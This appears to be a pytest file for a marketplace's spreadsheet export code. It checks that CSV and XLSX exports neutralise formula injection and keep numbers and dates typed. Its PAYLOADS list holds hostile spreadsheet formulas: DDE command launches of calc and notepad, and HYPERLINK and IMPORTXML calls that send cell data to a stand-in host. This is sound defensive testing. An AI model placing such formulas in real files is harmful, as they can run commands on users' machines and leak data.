"""What leaves as a spreadsheet is read and never run, whatever people typed; numbers and days stay what they are."""

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from itertools import product
from pathlib import Path

import pytest
from django.conf import settings
from openpyxl import load_workbook

from marketplace.kernel.spreadsheets import as_typed, csv_response, workbook_response

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
ACTS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://ejemplo.ec/?"&A1;"Vea")',
    "SUM(1+1)*cmd|'/C notepad'!A1",
    'DDE("cmd";"/C calc";"!A0")',
    'IMPORTXML(CONCAT("http://ejemplo.ec";A1);"//a")',
)
PAYLOADS = [start + act for start, act in product(STARTS, ACTS)]
LIVE = re.compile(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")  # OWASP: what a cell that a program runs begins with
ROOMS = ("marketplace", "framework_agreements", "catalog_import", "search", "cms")


def lines_of(response, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.mark.threat("I3")
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_no_cell_of_a_text_file_is_run(delimiter):
    lines = lines_of(csv_response("x.csv", [[text, f"a{delimiter}{text}"] for text in PAYLOADS], delimiter=delimiter), delimiter)

    assert len(PAYLOADS) >= 50
    assert [cell for line in lines for cell in line if LIVE.match(cell)] == []
    assert [as_typed(line[0]) for line in lines] == PAYLOADS


@pytest.mark.threat("I3")
def test_no_cell_of_a_workbook_is_run():
    content = workbook_response("x.xlsx", [[text] for text in PAYLOADS]).content
    cells = [row[0] for row in load_workbook(io.BytesIO(content)).active.iter_rows()]

    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells] == [text.replace("\r", "\n") for text in PAYLOADS]


@pytest.mark.threat("I3")
def test_every_file_of_rows_is_written_by_these_two():
    """So that a new export cannot forget it.

    The import's template sets drop-down lists, and writes its cells by `literal`; an offer by form is a file that only the
    import reads.
    """
    writes = re.compile(r"csv\.(writer|DictWriter)|Workbook\(|text/csv")
    files = [file for room in ROOMS for file in (settings.ROOT / room).rglob("*.py") if "node_modules" not in file.parts]

    assert {file.relative_to(settings.ROOT) for file in files if writes.search(file.read_text(encoding="utf-8"))} == {
        Path("marketplace/kernel/spreadsheets.py"),
        Path("catalog_import/template.py"),
        Path("catalog_import/offering.py"),
    }


VALUES = [7, Decimal("-1234.50"), datetime(2026, 11, 23, 17, 0, tzinfo=UTC), date(2026, 11, 30), None, "0012"]


def test_a_text_file_tells_numbers_and_hours_as_people_here_write_them():
    assert lines_of(csv_response("x.csv", [VALUES])) == [["7", "-1234,50", "2026-11-23 12:00", "2026-11-30", "", "0012"]]


def test_numbers_and_days_of_a_workbook_can_be_added_and_sorted():
    [row] = load_workbook(io.BytesIO(workbook_response("x.xlsx", [VALUES]).content)).active.iter_rows()

    assert [cell.data_type for cell in row] == ["n", "n", "d", "d", "n", "s"]
    assert [cell.value for cell in row] == [7, -1234.5, datetime(2026, 11, 23, 12), datetime(2026, 11, 30), None, "0012"]
